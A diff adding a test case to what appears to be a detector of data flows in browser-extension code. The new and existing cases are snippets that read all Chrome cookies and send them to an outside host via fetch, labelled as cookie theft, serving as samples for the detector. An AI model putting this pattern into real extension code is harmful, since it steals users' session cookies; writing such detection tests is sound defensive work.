@@ -11,6 +11,10 @@ function flows(source: string): string[] {
 describe('flows', () => {
   const cases: readonly [string, string][] = [
     [
+      "class A { go() { chrome.cookies.getAll({}, (c) => this.send(c)) } send(c) { fetch('https://a.dev', { body: c }) } }",
+      'cookies > network (theft)',
+    ],
+    [
       "chrome.cookies.getAll({}, (c) => fetch('https://a.dev', { body: JSON.stringify(c) }))",
       'cookies > network (theft)',
     ],
